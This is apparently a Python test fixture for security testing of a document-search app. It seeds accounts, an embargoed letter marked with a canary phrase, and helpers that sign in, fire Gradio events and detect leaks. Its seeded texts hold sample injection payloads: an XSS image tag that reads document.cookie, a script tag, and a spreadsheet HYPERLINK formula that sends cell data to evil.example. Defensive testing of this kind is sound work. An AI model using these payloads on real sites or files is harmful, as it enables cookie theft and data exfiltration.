"""The app under attack: in a process of its own, with accounts, and documents somebody would like to get at.

All texts are made up, and the forces invented.
"""

import json
import time
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from functools import cached_property
from pathlib import Path
from typing import Any

import httpx

from assistant.people.accounts import Accounts
from assistant.people.database import Database
from assistant.people.sessions import Tokens
from corpus import Corpus, Document, DocumentKind, Paragraph, ParagraphKind
from corpus.command import Json
from evals.serving import serving

READER, OTHER, LIBRARIAN, VIEWER = "anna", "ben", "lena", "vera"
PASSWORD = "correct horse battery staple"
PUBLIC, HIDDEN = "northshire-letter", "eastmoor-letter"
SECRET = "quarantined hovercraft"  # words that stand in the embargoed letter and nowhere else
MARKUP = '<img src=x onerror="alert(document.cookie)">'
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"press here")'
_PATIENCE = 60.0


@dataclass
class Target:
    """A running app, its data folder, and the people who know a password."""

    address: str
    folder: Path
    _sessions: dict[str, httpx.Client] = field(default_factory=dict)

    def nobody(self, **headers: str) -> httpx.Client:
        """A new client that has not signed in."""
        return httpx.Client(base_url=self.address, timeout=_PATIENCE, headers=headers)

    def signed_in(self, name: str) -> httpx.Client:
        """The client of somebody who has signed in as a person does."""
        if name not in self._sessions:
            client = self.nobody()
            answer = client.post("/sign-in", data={"name": name, "password": PASSWORD})
            if answer.status_code != 303:
                raise RuntimeError(f"{name} could not sign in: {answer.status_code} {answer.text[:200]}")
            self._sessions[name] = client
        return self._sessions[name]

    def close(self) -> None:
        """End the sessions' connections."""
        for client in self._sessions.values():
            client.close()

    @cached_property
    def config(self) -> Json:
        """What Gradio tells a page of its components and events."""
        found: Json = self.signed_in(READER).get("/config").raise_for_status().json()
        return found

    def event(self, element: str, name: str) -> Json:
        """An event of the element with that id, as Gradio tells a page of it: its `id`, `inputs`, whether in the `queue`."""
        ids = {each["id"] for each in self.config["components"] if each["props"].get("elem_id") == element}
        for each in self.config["dependencies"]:
            if any(id in ids and trigger == name for id, trigger in each["targets"]):
                return dict(each)
        raise LookupError(f"There is no event {name} of {element}.")

    def send(
        self,
        client: httpx.Client,
        element: str,
        name: str,
        data: list[Any] | None = None,
        told: Json | None = None,
        page: str = "",
    ) -> str:
        """Set off an event of the page as a browser does; what it gave in all, as JSON. Raises `httpx.HTTPError`.

        `page`: the open page of events that belong together; without it, a new one.
        """
        event = self.event(element, name)
        session = page or f"{time.monotonic_ns():x}"
        sent = {
            "data": data if data is not None else [None] * len(event["inputs"]),
            "fn_index": event["id"],
            "session_hash": session,
            "event_data": told,
        }
        if not event["queue"]:
            return client.post("/gradio_api/run/predict", json=sent).text
        joined = client.post("/gradio_api/queue/join", json=sent)
        if joined.status_code != 200:
            return joined.text
        parts = []
        with client.stream("GET", "/gradio_api/queue/data", params={"session_hash": session}) as stream:
            for line in stream.iter_lines():
                told_back = json.loads(line.removeprefix("data:")) if line.startswith("data:") else {}
                if told_back.get("msg") in ("process_generating", "process_completed"):
                    parts.append(json.dumps(told_back.get("output"), ensure_ascii=False))
                if told_back.get("msg") == "process_completed":
                    break
        return "\n".join(parts)

    def ask(self, client: httpx.Client, question: str) -> str:
        """Ask on the Ask screen; all that the page was given."""
        return self.send(client, "question", "submit", [question, None, "", "", "", "", ""])


@contextmanager
def running(folder: Path, models: Path | None = None) -> Iterator[Target]:
    """An app over a new data folder; `models`: where the embedding model's export lies already."""
    _fill(folder)
    if models:
        (folder / "models").symlink_to(models, target_is_directory=True)
    settings = {"INSPECTION_DATA": str(folder), "SIGN_IN": "accounts", "USER_HEADER": "", "MODEL": ""}
    with serving(settings) as app:
        target = Target(app.address, folder)
        try:
            yield target
        finally:
            target.close()


def _fill(folder: Path) -> None:
    corpus = Corpus(folder)
    corpus.mark_started()  # without the included letter
    public = [
        "Northshire Police looks for wanted suspects every day and keeps a list of them.",
        f"The force told inspectors about {MARKUP} and its meaning for victims of burglary.",
        f"Officers wrote {FORMULA} in the records of burglary.",
        "<script>alert(1)</script> was found in the custody records of Northshire Police.",
    ]
    hidden = [f"Eastmoor Police keeps a {SECRET} for chasing wanted suspects.", f"The {SECRET} is not always ready."]
    later = datetime.now(UTC) + timedelta(days=30)
    _put(corpus, PUBLIC, f"Northshire {MARKUP}", "northshire", public)
    _put(corpus, HIDDEN, "Eastmoor letter", "eastmoor", hidden, later)
    accounts, tokens = Accounts(Database(folder)), Tokens(Database(folder))
    for name in (READER, OTHER, LIBRARIAN, VIEWER):
        accounts.add(name, PASSWORD, name == LIBRARIAN, name == VIEWER)
    (folder / "token").write_text(tokens.make(READER), encoding="utf-8")


def _put(corpus: Corpus, id: str, title: str, force: str, texts: list[str], embargo: datetime | None = None) -> None:
    document = Document(
        id,
        title,
        DocumentKind.LETTER,
        f"{MARKUP}.txt".replace("/", ""),
        f"{abs(hash(id)):064x}",
        forces=(force,),
        embargo=embargo,
    )
    paragraphs = tuple(
        Paragraph(id, at, ParagraphKind.BODY, text, ("Main findings",), at, serial=at)
        for at, text in enumerate(texts, 1)
    )
    corpus.put(document, paragraphs)


def leaked(text: str, *words: str) -> str:
    """Which of these words are in a text, for an attack to tell; by default those of the embargoed letter."""
    found = [word for word in words or (SECRET,) if word.casefold() in text.casefold()]
    return f"got {found[0]!r}: {text[:200]}" if found else ""


def let_in(answer: httpx.Response, *refused: int) -> str:
    """What got through where one of these statuses was due."""
    return "" if answer.status_code in refused else f"status {answer.status_code}: {answer.text[:200]}"


Headers = Mapping[str, str]
